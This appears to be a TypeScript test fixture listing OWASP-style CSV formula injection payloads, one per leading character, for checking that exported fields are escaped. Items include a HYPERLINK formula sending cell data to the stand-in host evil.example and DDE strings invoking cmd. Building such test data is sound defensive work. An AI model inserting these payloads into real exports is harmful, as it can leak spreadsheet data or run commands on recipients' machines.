/**
 * Text a spreadsheet would run as a formula (OWASP's CSV injection cases,
 * one for each opening character: = + - @ tab CR), as a caller could put
 * it in a source record id or any other field an export carries.
 */
export const formulaPayloads: ReadonlyArray<string> = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点击 click")',
  "-2+3+cmd|' /C calc'!A0",
  '+1+1',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
]
